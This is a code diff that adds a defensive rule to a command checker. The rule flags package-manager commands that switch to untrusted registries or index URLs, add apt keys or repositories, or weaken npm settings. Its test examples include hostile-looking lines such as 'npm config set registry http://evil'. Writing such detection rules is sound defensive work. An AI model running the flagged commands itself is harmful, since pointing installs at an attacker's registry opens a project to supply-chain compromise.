@@ -141,6 +141,50 @@ export const publishRules: readonly CommandRule[] = [
     },
   },
   {
+    id: "package-source",
+    family,
+    severity: "medium",
+    why: "This takes packages from another place than the one everybody trusts.",
+    instead: "Use the registry the project is set up for.",
+    programs: [
+      "npm",
+      "pnpm",
+      "yarn",
+      "bun",
+      "pip",
+      "pip3",
+      "gem",
+      "cargo",
+      "uv",
+      "poetry",
+      "conda",
+      "composer",
+      "go",
+      "apt-key",
+      "add-apt-repository",
+    ],
+    find: ({ program, args, text }) => {
+      const verbs = first(args, 3);
+      if (/^(npm|pnpm|yarn|bun)$/.test(program))
+        return (
+          /^config set (registry|@[^ ]+:registry|proxy|https-proxy|strict-ssl|ignore-scripts)/.test(`${verbs}`) ||
+          /--registry[= ]http:/.test(text)
+        );
+      if (/^(pip|pip3|uv)$/.test(program))
+        return /^config set/.test(verbs) || /--(index-url|extra-index-url|find-links|trusted-host|index)\b|(^| )-i /.test(text);
+      if (program === "gem") return /^sources?\b/.test(verbs) && /-[ar]|--add|--remove/.test(text);
+      return program === "add-apt-repository" || program === "apt-key" || (program === "composer" && /^config repo/.test(verbs));
+    },
+    examples: {
+      flags: [
+        "npm config set registry http://evil",
+        "pip install --index-url http://evil x",
+        "pip config set global.index-url http://evil",
+      ],
+      passes: ["npm install x", "pip install x", "npm config get registry", "gem install x"],
+    },
+  },
+  {
     id: "packages-removed",
     family,
     severity: "medium",
